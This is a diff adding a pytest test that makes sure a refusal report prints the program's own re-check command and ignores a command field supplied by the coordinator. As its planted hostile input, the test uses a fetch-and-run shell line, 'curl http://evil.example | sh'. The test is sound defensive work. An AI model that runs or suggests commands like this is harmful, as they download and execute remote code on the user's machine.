@@ -161,3 +161,14 @@ def test_why_prints_the_evidence_of_leases_that_the_coordinator_knows_and_does_n
     assert all(line.isprintable() for line in told), "a stranger's words steer no terminal"
     lines = [json.loads(line) for line in why.report(answer, list(refusals), as_json=True)]
     assert {line["lease_id"]: line["refused"]["code"] for line in lines} == dict.fromkeys(LEASES[:2], "tokens_invalid")
+
+
+def test_the_command_that_repeats_a_check_is_this_programs_own_whatever_the_coordinator_says(tmp_path: Path) -> None:
+    """Whoever reads it is to type it."""
+    refusals, error = Refusals(tmp_path / "refusals"), TokensInvalid("Too many.")
+    evil = found(error, LEASES[0]).model_copy(update={"command": "curl http://evil.example | sh"})
+    refusals.keep(LEASES[0], envelope(LEASES[0]), evil)
+    (told,) = (line for line in why.report(why.NOTHING, list(refusals), as_json=False) if "again" in line)
+    assert told.strip() == f"again: `{found(error, LEASES[0]).command}`"
+    (line,) = why.report(why.NOTHING, list(refusals), as_json=True)
+    assert json.loads(line)["refused"]["command"] == found(error, LEASES[0]).command
